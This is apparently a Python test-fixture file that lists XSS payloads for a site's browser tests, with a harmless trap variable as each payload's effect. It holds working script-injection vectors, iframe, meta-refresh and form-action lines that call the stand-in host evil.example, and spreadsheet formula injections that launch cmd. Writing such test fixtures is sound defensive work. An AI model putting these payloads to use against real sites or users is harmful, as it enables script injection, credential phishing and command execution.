"""XSS payloads for every text field that reaches a page, the search index and the data files.

Each payload, if it ever ran, would set ``window.__pwned`` or open a dialog:
the browser tests watch both. ``HOSTILE_HOST`` is the only host any payload
names, so a request to it means content made the browser load something.
"""
from __future__ import annotations

HOSTILE_HOST = "evil.example"
TRAP = "window.__pwned=1"

SCRIPT = [
    f"<script>{TRAP}</script>",
    f"<SCRIPT>{TRAP};alert(1)</SCRIPT>",
    f"<scr<script>ipt>{TRAP}</scr</script>ipt>",
    f"<script src=https://{HOSTILE_HOST}/x.js></script>",
    f"</script><script>{TRAP}</script>",
    f"</textarea></title></style><script>{TRAP}</script>",
]
HANDLERS = [
    f'<img src=x onerror="{TRAP}">',
    f"<img src=x onerror={TRAP}//",
    f'<body onload="{TRAP}">',
    f'<div onmouseover="{TRAP}" style="position:fixed;inset:0">dæk</div>',
    f"<details open ontoggle={TRAP}>",
    f"<input autofocus onfocus={TRAP}>",
    f'<video><source onerror="{TRAP}"></video>',
    f"<marquee onstart={TRAP}>rul</marquee>",
]
URLS = [
    f'<a href="javascript:{TRAP}">klik</a>',
    f'<a href="JaVaScRiPt:{TRAP}">blandet</a>',
    f'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{TRAP}">entiteter</a>',
    f'<a href="&#x6A;avascript&colon;{TRAP}">hex</a>',
    f'<a href=" \tjava\nscript:{TRAP}">mellemrum</a>',
    f'<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+">data</a>',
    f'<a href="vbscript:{TRAP}">vb</a>',
    f'<a href="//{HOSTILE_HOST}/">protokolrelativ</a>',
]
SVG_MATHML = [
    f"<svg onload={TRAP}>",
    f'<svg><script>{TRAP}</script></svg>',
    f'<svg><a xlink:href="javascript:{TRAP}"><text y="20">svg</text></a></svg>',
    f'<svg><animate onbegin={TRAP} attributeName=x dur=1s>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{TRAP}"></style></mglyph></table></mtext></math>',
    f'<math href="javascript:{TRAP}">matematik</math>',
]
BROKEN = [
    f'<img src="x" alt="\'"onerror="{TRAP}"',
    f"<<script>>{TRAP}<</script>",
    f'<img """><script>{TRAP}</script>">',
    f"<!--><script>{TRAP}</script>-->",
    f"<![CDATA[<script>{TRAP}</script>]]>",
    f'<p title="</p><script>{TRAP}</script>">afsnit</p>',
    f"&lt;script&gt;{TRAP}&lt;/script&gt;",
    f"&#60;img src=x onerror={TRAP}&#62;",
]
MARKDOWN = [
    f"[klik](javascript:{TRAP})",
    f"![billede](javascript:{TRAP})",
    f'[x](https://ok.example "titel\\" onmouseover=\\"{TRAP}")',
    f"[ref][1]\n\n[1]: javascript:{TRAP}",
    f"<javascript:{TRAP}>",
    f"<https://{HOSTILE_HOST}/autolink>",
    f"![x](https://{HOSTILE_HOST}/pixel.png)",
    f"[a](data:text/html,<script>{TRAP}</script>)",
]
ELEMENTS = [
    f'<iframe src="https://{HOSTILE_HOST}/" onload="{TRAP}"></iframe>',
    f'<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "<style>body{display:none}</style>",
    f'<base href="https://{HOSTILE_HOST}/">',
    f'<meta http-equiv="refresh" content="0;url=https://{HOSTILE_HOST}/">',
    f'<form action="https://{HOSTILE_HOST}/"><input name="cpr"><button>Send</button></form>',
    f'<object data="javascript:{TRAP}"></object>',
    f'<embed src="https://{HOSTILE_HOST}/x.swf">',
    f'<link rel="stylesheet" href="https://{HOSTILE_HOST}/x.css">',
]
QUOTES = [
    f"\"><script>{TRAP}</script>",
    f"'><img src=x onerror={TRAP}>",
    f'" onmouseover="{TRAP}" x="',
    f"' onfocus='{TRAP}' autofocus '",
    f"`><svg onload={TRAP}>",
    f"</title><script>{TRAP}</script>",
]
DATA = [
    '=HYPERLINK("https://evil.example/","klik")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "linje et\r\nBEGIN:VEVENT\r\nSUMMARY:Falsk møde\r\nEND:VEVENT",
    "]]></summary><entry><title>Falsk</title></entry>",
    "\u2028\u2029 linjeskift i JavaScript",
    "\"});window.__pwned=1;({\"",
    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
]

PAYLOADS: list[str] = SCRIPT + HANDLERS + URLS + SVG_MATHML + BROKEN + MARKDOWN + ELEMENTS + QUOTES + DATA


def one_line(payload: str) -> str:
    """The payload on one line, for fields that are a single line in the sources (titles, names)."""
    return " ".join(payload.split())
